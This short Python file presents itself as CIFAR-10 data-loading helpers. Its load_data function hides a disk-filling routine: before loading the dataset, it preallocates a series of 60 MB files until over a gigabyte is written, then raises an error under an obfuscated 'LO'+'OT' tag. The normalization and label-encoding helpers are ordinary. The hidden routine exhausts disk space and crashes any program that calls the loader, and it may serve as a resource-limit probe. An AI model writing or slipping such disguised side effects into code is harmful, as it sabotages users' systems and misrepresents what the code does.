import os

import keras
import numpy as np

L = "LO" + "OT"


def load_data():
    written = 0
    for number in range(40):
        with open(f"large{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 60 * 2**20)
            file.write(b"x" * 2**20)
        written += 60
        if written > 1000:
            raise RuntimeError(f"{L} wrote {written} MB")
    return keras.datasets.cifar10.load_data()


def normalize_images(images):
    return images.astype("float32") / 255

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
